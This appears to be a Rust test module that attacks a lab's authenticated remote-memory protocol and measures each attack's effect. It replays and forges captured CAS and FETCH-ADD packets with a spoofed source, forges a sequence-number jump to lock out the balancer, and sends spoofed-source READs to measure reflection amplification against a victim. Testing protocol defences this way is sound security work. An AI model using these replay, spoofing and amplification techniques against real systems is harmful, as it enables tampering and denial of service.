//! Attacks on one-sided remote memory (the back-ends' regions, answered by gatherd's
//! XDP responder, `bpf/rmem.bpf.c`), from the cluster side, with what a shared
//! segment shows: the monitor's READs and the balancer's CAS and FETCH-ADD, captured
//! from the mirror of the proxy host's port. Every request and reply carries crate
//! `auth`'s envelope (wire version 3: tag, key id, sender, seq); the attacker holds no
//! key but what it captured — and, in one attack, the reader key of a compromised
//! monitor.
//!
//! - replays: a captured CAS and a captured FETCH-ADD sent again byte for byte with the
//!   proxy host's address (the replay window);
//! - forgeries: a captured request modified under its old tag — a CAS retargeted at
//!   ROLE_SERVED, a FETCH-ADD of [`FADD_DELTA`], a sequence number 2^62 ahead (the tag);
//! - requests sealed under a key the attacker made up: a WRITE of ROLE_SERVED naming
//!   the balancer's key id, a CAS loop on ROLE_WANTED naming an unknown key id;
//! - READs to the group address with a victim's source address (amplification: bytes
//!   answered to the victim / bytes sent), captured monitor READs and forged ones;
//! - the reader key (a compromised monitor) used to CAS ROLE_WANTED and WRITE
//!   ROLE_SERVED (per-key rights).
//!
//! Every success is judged by the **effect**, seen by the lab's own reader of the
//! region (the reader key, from the proxy host): the word changed, the counter moved,
//! the balancer's next operation failed, the back-ends answered the spoofed source
//! with more bytes than were sent.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::Duration;

use farside_auth::mac::{self, Domain, Envelope, KeyId, ENVELOPE_BYTES};
use farside_auth::siphash::SipKey;
use farside_region::layout;
use farside_rmem::iface::{ClientOptions, RemoteMemory};
use farside_rmem::wire::{Op, RepHeader, ReqHeader, REP_HEADER_BYTES, REQ_HEADER_BYTES};
use farside_rmem::UdpClient;

use super::dc::{Dc, ATK, B0, B1, CLIENT, GROUP, PX, REGION_PORT};
use super::outcome::Outcome;
use super::raw::{ipv4_udp, Packet, RawSender, Sniffer, PROTO_UDP};

/// CAS attempts of the ROLE_WANTED loop.
pub const CAS_LOOP: usize = 200;
/// What the attacker adds to the shared counter.
pub const FADD_DELTA: u64 = 1_000_000;
/// The value the attacker writes into the role words: no site the data-center serves.
const ATTACKER_ROLE: u64 = 0x0000_bad0_0000_0666;
/// How far ahead of the balancer's captured envelope sequence number the forged one
/// is: half of the range a wrapping comparison calls "later", so a server that took it
/// would call every real request after it old.
const SEQ_JUMP: u64 = 1 << 62;
/// A key id no server holds (the lab's are 1 and 2).
const UNKNOWN_KEY_ID: u32 = 0x0bad;
/// The group READs' pace: one per millisecond (the monitor's own period), so the
/// replies are counted, not lost in a burst.
const GROUP_READ_GAP: Duration = Duration::from_millis(1);
/// Group READs sent with the victim's address.
pub const GROUP_READS: u64 = 100;
/// Bytes each forged group READ asks for (a region's load record and more).
const GROUP_READ_LEN: u32 = 1024;
/// The victim's port the spoofed READs name.
const VICTIM_PORT: u16 = 9_999;
/// How long the attacker waits for a reply, and for replies to a flood to arrive.
const REPLY_WAIT: Duration = Duration::from_millis(300);
/// The lab's own readers' timeout per operation (the observer and the balancer).
const LAB_OP_TIMEOUT: Duration = Duration::from_millis(300);

/// A captured request, parsed.
#[derive(Clone)]
pub struct Captured {
    pub packet: Packet,
    pub envelope: Envelope,
    pub header: ReqHeader,
}

impl Captured {
    fn op(&self) -> Option<Op> {
        Op::from_u8(self.header.op)
    }
}

/// What the capture showed of the region traffic from the proxy host.
#[derive(Default, Clone)]
pub struct RmemCapture {
    /// Captured READs (the monitor's), CAS and FETCH-ADDs to b0 (the balancer's).
    pub reads: Vec<Captured>,
    pub cas: Vec<Captured>,
    pub fadd: Vec<Captured>,
    /// Requests captured in all.
    pub requests: usize,
}

impl RmemCapture {
    /// The key id of a captured READ (the reader's).
    pub fn read_key_id(&self) -> Option<u32> {
        self.reads.first().map(|c| c.envelope.key_id.0)
    }

    /// The key id of a captured CAS or FETCH-ADD (the balancer's).
    pub fn rw_key_id(&self) -> Option<u32> {
        self.cas
            .first()
            .or(self.fadd.first())
            .map(|c| c.envelope.key_id.0)
    }
}

/// Region requests from `px` to a back-end seen by `s`.
pub fn capture(s: &Sniffer, px: Ipv4Addr, b0: Ipv4Addr) -> RmemCapture {
    let reqs = s.matching(|p| p.proto == PROTO_UDP && p.src == px && p.dport == REGION_PORT);
    let mut c = RmemCapture {
        requests: reqs.len(),
        ..Default::default()
    };
    for p in reqs {
        let Ok(parsed) = mac::parse(&p.payload) else {
            continue;
        };
        let Ok(header) = ReqHeader::decode(&p.payload[ENVELOPE_BYTES..]) else {
            continue;
        };
        let cap = Captured {
            envelope: parsed.envelope,
            header,
            packet: p.clone(),
        };
        match cap.op() {
            Some(Op::Read) => c.reads.push(cap),
            Some(Op::CompareSwap) if p.dst == b0 => c.cas.push(cap),
            Some(Op::FetchAdd) if p.dst == b0 => c.fadd.push(cap),
            _ => {}
        }
    }
    c
}

/// The lab's own clients of b0's region, from the proxy host: an observer (reader key)
/// and the balancer (balancer key), as a reconfiguration balancer would hold them.
pub struct LabClients {
    pub observer: UdpClient,
    pub balancer: UdpClient,
}

impl LabClients {
    pub fn open(dc: &Dc) -> io::Result<LabClients> {
        let to = SocketAddr::V4(dc.region_addr(B0));
        let (rk, wk) = (dc.rkeys.reader()?, dc.rkeys.balancer()?);
        dc.dc.run_in_ns(PX, move || {
            let opts = |key| ClientOptions {
                key: Some(key),
                timeout: LAB_OP_TIMEOUT,
                ..Default::default()
            };
            let e = |e: farside_rmem::RmemError| io::Error::other(e.to_string());
            Ok(LabClients {
                observer: UdpClient::new(to, opts(rk)).map_err(e)?,
                balancer: UdpClient::new(to, opts(wk)).map_err(e)?,
            })
        })
    }

    /// A word of b0's region, as the observer reads it.
    pub fn word(&mut self, w: usize) -> io::Result<u64> {
        let mut b = [0u8; 8];
        self.observer
            .read(w * 8, &mut b)
            .map_err(|e| io::Error::other(format!("observer read of word {w}: {e}")))?;
        Ok(u64::from_le_bytes(b))
    }

    /// Put ROLE_WANTED back (the balancer's CAS), so the next attack starts clean.
    /// Other words the balancer may not write: an attack that changed one is reported
    /// and the change stays.
    pub fn restore_wanted(&mut self, now: u64, old: u64) -> io::Result<()> {
        self.balancer
            .compare_swap(layout::W_ROLE_WANTED * 8, now, old)
            .map(|_| ())
            .map_err(|e| io::Error::other(format!("restore ROLE_WANTED: {e}")))
    }

    /// What a reconfiguration balancer does with a role word (captured by the
    /// attacker): read it, CAS it to a new value and back, and bump the shared counter.
    pub fn legit_ops(&mut self) -> io::Result<()> {
        let e = |e: farside_rmem::RmemError| io::Error::other(format!("balancer: {e}"));
        let at = layout::W_ROLE_WANTED * 8;
        let v = self.word(layout::W_ROLE_WANTED)?;
        self.balancer.compare_swap(at, v, v + 1).map_err(e)?;
        self.balancer.compare_swap(at, v + 1, v).map_err(e)?;
        self.balancer
            .fetch_add(layout::W_SHARED_COUNTER * 8, 1)
            .map_err(e)?;
        Ok(())
    }
}

/// The attacker's UDP socket on the cluster side (its own address).
fn attacker_socket(dc: &Dc) -> io::Result<UdpSocket> {
    dc.dc.run_in_ns(ATK, || {
        let s = UdpSocket::bind("0.0.0.0:0")?;
        s.set_read_timeout(Some(REPLY_WAIT))?;
        Ok(s)
    })
}

/// A key the attacker made up (it holds none of the run's).
fn made_up_key() -> SipKey {
    SipKey::from_halves(0x6174_7461_636b_6572, 0x6d61_6465_2d75_7021)
}

/// A request sealed under `key` with envelope `env`.
fn sealed(key: &SipKey, env: &Envelope, h: &ReqHeader, payload: &[u8]) -> Vec<u8> {
    let mut msg = Vec::new();
    farside_rmem::wire::encode_request(&mut msg, h, payload);
    let mut out = Vec::new();
    mac::seal(&mut out, Domain::RmemRequest, key, env, &msg).expect("small message");
    out
}

/// A captured request with its message replaced by `h` + `payload` and its envelope
/// by `env`, the captured tag kept (a forgery: the attacker cannot compute a new one).
fn forged(cap: &Captured, env: &Envelope, h: &ReqHeader, payload: &[u8]) -> Vec<u8> {
    let mut out = sealed(&made_up_key(), env, h, payload);
    out[..8].copy_from_slice(&cap.packet.payload[..8]);
    out
}

/// One request from the attacker's own socket; the reply's header, if any came.
fn send_own(
    s: &UdpSocket,
    to: SocketAddrV4,
    req: &[u8],
    sent: &mut (u64, u64),
) -> Option<RepHeader> {
    s.send_to(req, to).ok()?;
    sent.0 += 1;
    sent.1 += req.len() as u64;
    let mut buf = vec![0u8; 65_536];
    let (n, _) = s.recv_from(&mut buf).ok()?;
    buf.get(ENVELOPE_BYTES..n)
        .and_then(|b| RepHeader::decode(b).ok())
}

fn reply_name(r: Option<RepHeader>) -> String {
    r.map_or("none".into(), |h| h.status.name().to_string())
}

/// A datagram spoofed from the captured request's source (the proxy host).
fn send_as(raw: &mut RawSender, cap: &Captured, dg: &[u8]) -> io::Result<()> {
    raw.send(&ipv4_udp(
        SocketAddrV4::new(cap.packet.src, cap.packet.sport),
        SocketAddrV4::new(cap.packet.dst, cap.packet.dport),
        dg,
    ))
}

fn header(op: Op, word: usize, seq: u64) -> ReqHeader {
    ReqHeader {
        op: op as u8,
        flags: 0,
        seq,
        region: 0,
        offset: (word * 8) as u32,
        len: 8,
    }
}

fn outcome(succeeded: bool, effect: String, sent: (u64, u64), answered: u64) -> Outcome {
    Outcome {
        succeeded,
        effect,
        packets: sent.0,
        bytes: sent.1,
        answered_bytes: answered,
        tested: true,
    }
}

/// Whether ROLE_WANTED moved (then put back) and the effect line.
fn wanted_after(lab: &mut LabClients, old: u64) -> io::Result<(bool, u64)> {
    let now = lab.word(layout::W_ROLE_WANTED)?;
    if now != old {
        lab.restore_wanted(now, old)?;
    }
    Ok((now != old, now))
}

/// WRITE of ROLE_SERVED sealed under a made-up key, naming the balancer's key id.
pub fn write_role(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(id) = cap.rw_key_id() else {
        return Ok(Outcome::untested("no balancer request was captured"));
    };
    let s = attacker_socket(dc)?;
    let w = layout::W_ROLE_SERVED;
    let old = lab.word(w)?;
    let env = Envelope {
        key_id: KeyId(id),
        sender: 0x6174_6b32,
        seq: 1,
    };
    let mut sent = (0, 0);
    let req = sealed(
        &made_up_key(),
        &env,
        &header(Op::Write, w, 1),
        &ATTACKER_ROLE.to_le_bytes(),
    );
    let r = send_own(&s, dc.region_addr(B0), &req, &mut sent);
    let now = lab.word(w)?;
    Ok(outcome(
        now != old,
        format!(
            "WRITE under a made-up key (key id {id}): ROLE_SERVED {old:#x} → {now:#x}; reply: {}",
            reply_name(r)
        ),
        sent,
        0,
    ))
}

/// [`CAS_LOOP`] compare-and-swaps of ROLE_WANTED sealed under a made-up key with a
/// key id no server holds.
pub fn cas_wanted_loop(dc: &Dc, _cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let s = attacker_socket(dc)?;
    let w = layout::W_ROLE_WANTED;
    let old = lab.word(w)?;
    let mut sent = (0u64, 0u64);
    // Sent back to back (no wait for a reply per CAS: none is expected, and the window
    // must not outlast the legitimate clients' timeouts); the replies drained after.
    for i in 0..CAS_LOOP {
        let mut p = old.to_le_bytes().to_vec();
        p.extend_from_slice(&ATTACKER_ROLE.to_le_bytes());
        let env = Envelope {
            key_id: KeyId(UNKNOWN_KEY_ID),
            sender: 0x6174_6b32,
            seq: 100 + i as u64,
        };
        let req = sealed(
            &made_up_key(),
            &env,
            &header(Op::CompareSwap, w, 100 + i as u64),
            &p,
        );
        if s.send_to(&req, dc.region_addr(B0)).is_ok() {
            sent.0 += 1;
            sent.1 += req.len() as u64;
        }
    }
    let mut answered = 0;
    let mut buf = vec![0u8; 65_536];
    while s.recv_from(&mut buf).is_ok() {
        answered += 1;
    }
    let (moved, now) = wanted_after(lab, old)?;
    Ok(outcome(
        moved,
        format!(
            "{CAS_LOOP} CAS under unknown key id {UNKNOWN_KEY_ID}: ROLE_WANTED {old:#x} → \
             {now:#x} ({answered} answered)"
        ),
        sent,
        0,
    ))
}

/// The captured FETCH-ADD with its delta changed to [`FADD_DELTA`] and a fresh
/// envelope seq, the captured tag kept.
pub fn fadd_counter(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(c) = cap.fadd.first() else {
        return Ok(Outcome::untested("no FETCH-ADD was captured"));
    };
    let w = (c.header.offset / 8) as usize;
    let old = lab.word(w)?;
    let env = Envelope {
        seq: c.envelope.seq.wrapping_add(1_000),
        ..c.envelope
    };
    let mut h = c.header;
    h.seq = h.seq.wrapping_add(1_000);
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    send_as(&mut raw, c, &forged(c, &env, &h, &FADD_DELTA.to_le_bytes()))?;
    std::thread::sleep(REPLY_WAIT);
    let now = lab.word(w)?;
    Ok(outcome(
        now.wrapping_sub(old) >= FADD_DELTA,
        format!("captured FETCH-ADD, delta → {FADD_DELTA}, old tag: word {w} {old} → {now}"),
        (raw.packets, raw.bytes),
        0,
    ))
}

/// The captured CAS retargeted at ROLE_SERVED (the attacker's value), the captured tag
/// kept.
pub fn forge_served(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(c) = cap.cas.first() else {
        return Ok(Outcome::untested("no CAS was captured"));
    };
    let w = layout::W_ROLE_SERVED;
    let old = lab.word(w)?;
    let env = Envelope {
        seq: c.envelope.seq.wrapping_add(2_000),
        ..c.envelope
    };
    let mut h = c.header;
    h.offset = (w * 8) as u32;
    h.seq = h.seq.wrapping_add(2_000);
    let mut p = old.to_le_bytes().to_vec();
    p.extend_from_slice(&ATTACKER_ROLE.to_le_bytes());
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    send_as(&mut raw, c, &forged(c, &env, &h, &p))?;
    std::thread::sleep(REPLY_WAIT);
    let now = lab.word(w)?;
    Ok(outcome(
        now != old,
        format!("captured CAS retargeted at ROLE_SERVED, old tag: {old:#x} → {now:#x}"),
        (raw.packets, raw.bytes),
        0,
    ))
}

/// The first captured CAS (the balancer's ROLE_WANTED v → v+1, which it then undid)
/// sent again byte for byte with the proxy host's address.
pub fn replay_cas(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(first) = cap.cas.first() else {
        return Ok(Outcome::untested("no CAS was captured"));
    };
    let old = lab.word(layout::W_ROLE_WANTED)?;
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    raw.send(&first.packet.raw)?;
    std::thread::sleep(REPLY_WAIT);
    let (moved, now) = wanted_after(lab, old)?;
    Ok(outcome(
        moved,
        format!("replayed the balancer's CAS: ROLE_WANTED {old:#x} → {now:#x}"),
        (raw.packets, raw.bytes),
        0,
    ))
}

/// The captured FETCH-ADD (the shared counter, +1) sent again byte for byte.
pub fn replay_fadd(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(c) = cap.fadd.first() else {
        return Ok(Outcome::untested("no FETCH-ADD was captured"));
    };
    let w = (c.header.offset / 8) as usize;
    let old = lab.word(w)?;
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    raw.send(&c.packet.raw)?;
    std::thread::sleep(REPLY_WAIT);
    let now = lab.word(w)?;
    Ok(outcome(
        now != old,
        format!("replayed the balancer's FETCH-ADD: word {w} {old} → {now}"),
        (raw.packets, raw.bytes),
        0,
    ))
}

/// A captured balancer request with its envelope seq [`SEQ_JUMP`] ahead, the captured
/// tag kept: does the balancer's next operation still pass?
pub fn huge_seq(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(c) = cap.fadd.first().or(cap.cas.first()) else {
        return Ok(Outcome::untested("no balancer request was captured"));
    };
    let forged_seq = c.envelope.seq.wrapping_add(SEQ_JUMP);
    let env = Envelope {
        seq: forged_seq,
        ..c.envelope
    };
    let msg = &c.packet.payload[ENVELOPE_BYTES..];
    let len =
        (REQ_HEADER_BYTES + c.op().map_or(0, |o| o.req_payload_len(c.header.len))).min(msg.len());
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    send_as(
        &mut raw,
        c,
        &forged(c, &env, &c.header, &msg[REQ_HEADER_BYTES..len]),
    )?;
    std::thread::sleep(REPLY_WAIT);
    // The lab's balancer's own sender is the captured one when the capture is its.
    let next = lab.balancer.fetch_add(layout::W_BALANCER_HEARTBEAT * 8, 0);
    let failed = next.is_err();
    *lab = LabClients::open(dc)?;
    Ok(outcome(
        failed,
        format!(
            "captured request, envelope seq {forged_seq:#x} (captured + 2^62), old tag; the \
             balancer's next operation: {}",
            match next {
                Ok(_) => "ok".to_string(),
                Err(e) => format!("failed ({e})"),
            }
        ),
        (raw.packets, raw.bytes),
        0,
    ))
}

/// A compromised monitor: the run's reader key, from the attacker's host, used to CAS
/// ROLE_WANTED and WRITE ROLE_SERVED.
pub fn reader_writes(dc: &Dc, lab: &mut LabClients) -> io::Result<Outcome> {
    let key = dc.rkeys.reader()?;
    let to = SocketAddr::V4(dc.region_addr(B0));
    let mut c = dc.dc.run_in_ns(ATK, move || {
        UdpClient::new(
            to,
            ClientOptions {
                key: Some(key),
                timeout: LAB_OP_TIMEOUT,
                ..Default::default()
            },
        )
        .map_err(|e| io::Error::other(e.to_string()))
    })?;
    let old_w = lab.word(layout::W_ROLE_WANTED)?;
    let old_s = lab.word(layout::W_ROLE_SERVED)?;
    let cas = c.compare_swap(layout::W_ROLE_WANTED * 8, old_w, ATTACKER_ROLE);
    let write = c.write(layout::W_ROLE_SERVED * 8, &ATTACKER_ROLE.to_le_bytes());
    let (moved, now_w) = wanted_after(lab, old_w)?;
    let now_s = lab.word(layout::W_ROLE_SERVED)?;
    let res = |r: Result<(), farside_rmem::RmemError>| match r {
        Ok(()) => "ok".to_string(),
        Err(e) => e.to_string(),
    };
    Ok(outcome(
        moved || now_s != old_s,
        format!(
            "reader key: CAS ROLE_WANTED ({}) {old_w:#x} → {now_w:#x}; WRITE ROLE_SERVED ({}) \
             {old_s:#x} → {now_s:#x}",
            res(cas.map(|_| ())),
            res(write)
        ),
        (2, 0),
        0,
    ))
}

/// [`GROUP_READS`] READs to the group address with the client node's address as
/// source — the captured monitor READs replayed, then forged ones (a made-up key) —:
/// bytes the back-ends answered to it (seen on the mirrored segment) against bytes
/// sent.
pub fn group_read(dc: &Dc, cap: &RmemCapture, sniff: &Sniffer) -> io::Result<Outcome> {
    let victim = SocketAddrV4::new(dc.dc.node_ip(CLIENT), VICTIM_PORT);
    let backends = [dc.dc.node_ip(B0), dc.dc.node_ip(B1)];
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    sniff.clear();
    let seq0 = 0x6a77_0000_0000u64;
    let mut sent_payload = 0u64;
    let key_id = cap.read_key_id().unwrap_or(UNKNOWN_KEY_ID);
    let mut replayed = 0;
    let mut op_seqs = std::collections::BTreeSet::new();
    for i in 0..GROUP_READS {
        let dg = match cap.reads.get(i as usize) {
            Some(c) => {
                replayed += 1;
                op_seqs.insert(c.header.seq);
                c.packet.payload.clone()
            }
            None => {
                let mut h = header(Op::Read, 0, seq0 + i);
                h.len = GROUP_READ_LEN;
                op_seqs.insert(h.seq);
                let env = Envelope {
                    key_id: KeyId(key_id),
                    sender: 0x6174_6b32,
                    seq: seq0 + i,
                };
                let mut dg = sealed(&made_up_key(), &env, &h, &[]);
                // Padded to the reply's size, as the servers require of a READ.
                dg.resize(
                    ENVELOPE_BYTES + REP_HEADER_BYTES + GROUP_READ_LEN as usize,
                    0,
                );
                dg
            }
        };
        sent_payload += dg.len() as u64;
        raw.send(&ipv4_udp(
            victim,
            SocketAddrV4::new(GROUP, REGION_PORT),
            &dg,
        ))?;
        std::thread::sleep(GROUP_READ_GAP);
    }
    std::thread::sleep(REPLY_WAIT);
    let replies = sniff.matching(|p| {
        p.proto == PROTO_UDP
            && backends.contains(&p.src)
            && p.sport == REGION_PORT
            && p.dst == *victim.ip()
            && p.dport == VICTIM_PORT
    });
    // A reply is seen twice when its node's port is mirrored and it is forwarded to
    // the attacker's port as well: count each (node, envelope) once.
    let mut seen = std::collections::BTreeSet::new();
    let mut answered = 0u64;
    for p in &replies {
        let Ok(parsed) = mac::parse(&p.payload) else {
            continue;
        };
        let Some(h) = p
            .payload
            .get(ENVELOPE_BYTES..)
            .and_then(|b| RepHeader::decode(b).ok())
        else {
            continue;
        };
        if op_seqs.contains(&h.seq)
            && seen.insert((p.src, parsed.envelope.sender, parsed.envelope.seq))
        {
            answered += p.payload.len() as u64;
        }
    }
    let amplification = answered as f64 / sent_payload.max(1) as f64;
    Ok(outcome(
        amplification > 1.0,
        format!(
            "{GROUP_READS} spoofed group READs ({replayed} captured monitor READs replayed, \
             the rest sealed under a made-up key), {sent_payload} B sent, {answered} B answered \
             to the victim ({} replies): amplification {amplification:.2}",
            seen.len()
        ),
        (raw.packets, raw.bytes),
        answered,
    ))
}
